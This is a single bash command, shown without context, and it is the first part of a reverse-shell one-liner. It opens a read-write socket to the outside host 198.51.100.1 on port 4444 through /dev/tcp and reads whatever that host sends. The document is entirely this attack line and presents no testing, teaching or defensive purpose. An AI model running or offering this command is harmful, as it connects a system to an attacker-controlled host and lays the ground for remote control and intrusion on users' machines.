exec 5<>/dev/tcp/198.51.100.1/4444; cat <&5
